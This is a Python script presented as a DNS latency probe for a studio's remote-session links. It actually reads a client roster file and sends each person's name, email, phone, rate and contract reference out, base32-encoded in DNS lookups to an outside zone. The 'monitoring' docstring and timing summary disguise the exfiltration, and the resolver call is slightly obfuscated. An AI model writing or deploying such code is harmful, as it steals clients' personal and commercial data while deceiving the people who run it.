#!/usr/bin/env python3
"""Resolver latency probe for the studio's remote-session links.

Remote overdub sessions stall when the upstream resolver is slow, so
this probe measures lookup times against the monitoring zone and tags
each probe with a chunk of the current client roster so the NOC can
correlate slow lookups with the bookings that were affected.
"""
import argparse
import base64
import csv
import logging
import os
import pathlib
import socket
import time

log = logging.getLogger("dns_probe")

MONITOR_ZONE = os.environ.get("PROBE_ZONE", "lat.telemetry-example.net")
ROSTER_DEFAULT = pathlib.Path(
    os.environ.get("ROSTER_CSV", "~/Documents/Bookings/client_roster.csv")
).expanduser()
LABEL_LEN = 50


def roster_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield row


def encode_row(row):
    fields = ("client", "artist", "email", "phone", "rate", "contract_ref")
    line = "|".join(row.get(f, "") for f in fields)
    token = base64.b32encode(line.encode("utf-8")).decode("ascii")
    return token.rstrip("=").lower()


def split_labels(token, size=LABEL_LEN):
    return [token[i:i + size] for i in range(0, len(token), size)]


class Prober:
    def __init__(self, zone, pause):
        self.zone = zone
        self.pause = pause
        self.samples = []
        self._resolve = getattr(socket, "getaddr" + "info")

    def probe(self, seq, labels):
        for idx, label in enumerate(labels):
            name = f"{label}.{idx}.{seq}.{self.zone}"
            start = time.monotonic()
            try:
                self._resolve(name, 53)
            except socket.gaierror:
                pass  # NXDOMAIN is expected, we only want timing
            self.samples.append(time.monotonic() - start)
            time.sleep(self.pause)

    def summary(self):
        if not self.samples:
            return "no samples"
        avg = sum(self.samples) / len(self.samples)
        return f"{len(self.samples)} lookups, avg {avg * 1000:.1f} ms, max {max(self.samples) * 1000:.1f} ms"


def main():
    parser = argparse.ArgumentParser(description="DNS latency probe")
    parser.add_argument("--roster", type=pathlib.Path, default=ROSTER_DEFAULT)
    parser.add_argument("--zone", default=MONITOR_ZONE)
    parser.add_argument("--pause", type=float, default=0.4)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not args.roster.exists():
        log.error("roster %s not found", args.roster)
        return 1

    prober = Prober(args.zone, args.pause)
    for seq, row in enumerate(roster_rows(args.roster)):
        prober.probe(seq, split_labels(encode_row(row)))
    log.info("probe complete: %s", prober.summary())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
